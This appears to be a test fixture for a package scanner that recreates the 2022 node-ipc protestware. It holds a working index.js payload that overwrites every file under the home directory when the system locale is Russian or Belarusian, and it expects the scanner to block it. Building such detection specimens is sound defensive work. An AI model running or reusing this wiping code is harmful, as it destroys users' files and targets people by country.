import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'incident-protest-wipe',
  from: 'node-ipc, 2022: files overwritten where a language is spoken',
  files: {
    'index.js': `const fs = require('fs');
const os = require('os');
const path = require('path');
function walk(folder) {
  for (const name of fs.readdirSync(folder)) {
    const file = path.join(folder, name);
    if (fs.statSync(file).isDirectory()) walk(file);
    else fs.writeFileSync(file, 'INERT');
  }
}
if (/^(ru|be)/.test(Intl.DateTimeFormat().resolvedOptions().locale)) walk(os.homedir());
`,
  },
  expect: 'block',
  says: ['destroys-files', 'harms-by-country'],
};
